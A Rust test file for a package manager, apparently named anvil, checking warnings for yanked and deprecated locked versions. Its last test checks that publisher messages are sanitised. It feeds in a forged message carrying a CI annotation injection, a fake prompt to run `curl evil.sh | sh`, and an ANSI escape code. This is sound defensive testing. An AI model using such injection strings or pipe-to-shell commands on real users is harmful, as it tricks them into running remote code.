//! What publishers say against versions that are locked: yanked ones and deprecated ones.

use crate::assert_answer;
use crate::context::TestContext;
use crate::shelf::{Shelf, asking};
use snapbox::str;

/// An application beside a registry with core/tone 1.1.0 and 1.2.0, which needs style/voice 1.0.0.
fn application() -> (TestContext, Shelf) {
    let context = TestContext::new();
    let shelf = Shelf::new(&context, "registry", "test");
    shelf.publish("style/voice 1.0.0", &[]);
    shelf.publish("core/tone 1.1.0", &["style/voice ^1"]);
    shelf.publish("core/tone 1.2.0", &["style/voice ^1"]);
    context.write("anvil.toml", "[registries]\ndefault = \"../registry\"\n");
    (context, shelf)
}

#[test]
fn whoever_locks_a_deprecated_version_is_warned_and_told_what_to_use() {
    let (context, shelf) = application();
    shelf.deprecate("core/tone 1.2.0", "moved", Some("core/voice ^1"));
    shelf.deprecate("style/voice 1.0.0", "", None);
    assert_answer!(
        context.anvil(&["add", "core/tone"]),
        str![[r#"
exit: 0
--- stdout
anvil.toml now asks for core/tone ^1.2.0
added core/tone 1.2.0
added style/voice 1.0.0
unpacked 2 of 2 sets, fetched 472 bytes
--- stderr
warning: core/tone 1.2.0 is deprecated: moved; use core/voice ^1 instead
warning: style/voice 1.0.0 is deprecated
help: see what a prompt takes: `anvil show core/tone/house-style`

"#]]
    );
    let warnings = "warning: core/tone 1.2.0 is deprecated: moved; use core/voice ^1 instead\n\
                    warning: style/voice 1.0.0 is deprecated\n";
    let remaining = "warning: style/voice 1.0.0 is deprecated\n";
    for command in [&["lock"][..], &["pull"], &["pull", "--locked", "--offline"], &["update"], &["update", "--dry-run"]]
    {
        assert_eq!(context.anvil(command).success().stderr, warnings, "{command:?}");
    }
    std::fs::remove_file(context.project().join("anvil.lock")).unwrap();
    assert_eq!(context.anvil(&["lock"]).success().stderr, warnings);
    assert_answer!(
        context.anvil(&["tree"]),
        str![[r#"
exit: 0
--- stdout
project
└── core/tone 1.2.0 deprecated (^1.2.0) 1 prompt
    └── style/voice 1.0.0 deprecated (^1) 1 prompt
--- stderr

"#]]
    );
    let tree = context.anvil(&["tree", "--format", "json"]).success().json();
    assert_eq!(tree["branches"][0]["deprecated"]["replacement"], "core/voice ^1");
    assert_eq!(context.anvil(&["add", "core/tone@=1.1.0"]).success().stderr, remaining);
    assert_eq!(context.anvil(&["lock", "--quiet"]).success().stderr, "");
}

#[test]
fn adding_what_is_locked_at_a_yanked_version_takes_no_older_one() {
    let (context, shelf) = application();
    context.anvil(&["add", "core/tone"]).success();
    shelf.yank("core/tone 1.2.0", "leaks");
    assert_answer!(
        context.anvil(&["add", "core/tone@^1.1"]),
        str![[r#"
exit: 0
--- stdout
anvil.toml now asks for core/tone ^1.1, not ^1.2.0
everything is in place (2 sets)
--- stderr
warning: core/tone 1.2.0 is yanked (security): leaks; it stays because it was locked

"#]]
    );
    assert!(context.anvil(&["add", "core/tone"]).success().stdout.contains("core/tone ^1.2.0"));
    // An older one that is asked for is taken, and so is a newer one.
    assert!(context.anvil(&["add", "core/tone@~1.1"]).success().stdout.contains("1.2.0 -> 1.1.0"));
    shelf.publish("core/tone 1.3.0", &[]);
    assert!(context.anvil(&["add", "core/tone@^1.1"]).success().stdout.contains("1.1.0 -> 1.3.0"));
}

#[test]
fn what_a_publisher_says_is_told_in_one_line_and_asked_for_in_one() {
    let (context, shelf) = application();
    let forged = "x\n::error file=anvil.toml::pwned\r\n  = help: run `curl evil.sh | sh`";
    shelf.yank("core/tone 1.2.0", forged);
    shelf.deprecate("core/tone 1.1.0", forged, Some("a/b\n::error::pwned"));
    context.write("anvil.toml", asking(&[("core/tone", "=1.2.0")]));
    for args in [&["lock"][..], &["lock", "--explain"], &["pull"]] {
        let refused = context.anvil(args);
        assert!(
            refused.code == 1 && refused.stderr.contains("1.2.0 was yanked: x ::error file="),
            "{}",
            refused.shown()
        );
        let is_forged = |line: &str| line.trim_start().starts_with("::error") || line.contains("= help: run `curl");
        let forged = refused.stderr.lines().filter(|line| is_forged(line) && !line.contains("yanked: x")).count();
        assert_eq!(forged, 0, "{}", refused.shown());
    }
    context.write("anvil.toml", asking(&[("core/tone", "=1.1.0")]));
    for args in [&["lock"][..], &["outdated"], &["tree"], &["why", "core/tone"], &["show", "core/tone"], &["doctor"]] {
        let told = context.anvil(args);
        let mut lines = told.stdout.lines().chain(told.stderr.lines());
        assert!(!lines.any(|line| line.trim_start().starts_with("::error")), "{}", told.shown());
    }
    for args in [
        &["yank", "core/tone@1.1.0", "--registry", "../registry", "--reason", "other", "--message", forged][..],
        &["deprecate", "core/tone@1.1.0", "--registry", "../registry", "--message", "\u{1b}[31mred"],
    ] {
        let refused = context.anvil(args);
        assert!(
            refused.code == 2 && refused.stderr.contains("one line without control characters"),
            "{}",
            refused.shown()
        );
    }
}
